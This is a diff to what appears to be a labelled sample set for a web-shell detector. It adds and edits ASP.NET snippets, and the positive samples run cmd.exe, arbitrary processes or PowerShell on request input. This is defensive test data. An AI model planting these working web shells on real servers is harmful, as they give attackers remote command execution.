@@ -365,7 +365,8 @@ SAMPLES.update({
             "cmd.asmx": page('<%@ WebService Language="C#" Class="S"%>\npublic class S : WebService { [WebMethod] public string Run(string c) { '
                              'var i = new ProcessStartInfo("cmd.exe", "/c " + c) { RedirectStandardOutput = true, UseShellExecute = false }; return Process.Start(i).StandardOutput.ReadToEnd(); } }'),
             "exec.soap": page('<%@ WebService Language="C#" Class="S"%>\npublic class S : WebService { [WebMethod] public string E(string f, string a) { '
-                              'var p = new Process(); p.StartInfo.FileName = f; p.StartInfo.Arguments = a; p.StartInfo.UseShellExecute = false; p.Start(); return ""; } }'),
+                              'var p = new Process(); p.StartInfo.FileName = f; p.StartInfo.Arguments = a; p.StartInfo.UseShellExecute = false; p.StartInfo.RedirectStandardOutput = true; '
+                              'p.Start(); return p.StandardOutput.ReadToEnd(); } }'),
         },
         "negative": {
             "pdf-export.asmx": page('<%@ WebService Language="C#" Class="R"%>\npublic class R : WebService { [WebMethod] public string Export(int id) { '
@@ -439,6 +440,8 @@ SAMPLES.update({
                                   'var pl = rs.CreatePipeline(); pl.Commands.AddScript(Request.Form["ps"]); foreach (var o in pl.Invoke()) Response.Write(o); %>'),
         },
         "negative": {
+            "mailbox-admin.aspx": page('<%@ Page Language="C#"%><% using (var ps = System.Management.Automation.PowerShell.Create()) { ps.Runspace = rs; '
+                                       'ps.AddCommand("Set-Mailbox").AddParameter("Identity", txtUser.Text).AddParameter("ForwardingAddress", Request.Form["fwd"]); ps.Invoke(); } %>'),
             "fixed-script.aspx": page('<%@ Page Language="C#"%><% using (var ps = System.Management.Automation.PowerShell.Create()) { '
                                       'ps.AddScript("Get-Service W3SVC"); foreach (var o in ps.Invoke()) lbl.Text += o; } %>'),
         },
@@ -449,6 +452,8 @@ SAMPLES.update({
             "losformatter.aspx": page('<%@ Page Language="C#"%><% var o = new LosFormatter().Deserialize(Request.InputStream); %>'),
         },
         "negative": {
+            "json-body.aspx": page('<%@ Page Language="C#"%><% var state = new LosFormatter().Deserialize(hidState.Value); '
+                                   'var order = new JavaScriptSerializer().Deserialize(new StreamReader(Request.InputStream).ReadToEnd(), typeof(Order)); %>'),
             "viewstate-field.aspx": page('<%@ Page Language="C#"%><% var state = new LosFormatter().Deserialize(hidState.Value); '
                                          'var prefs = new JavaScriptSerializer().Deserialize<Dictionary<string, object>>(Request.Form["prefs"]); %>'),
         },
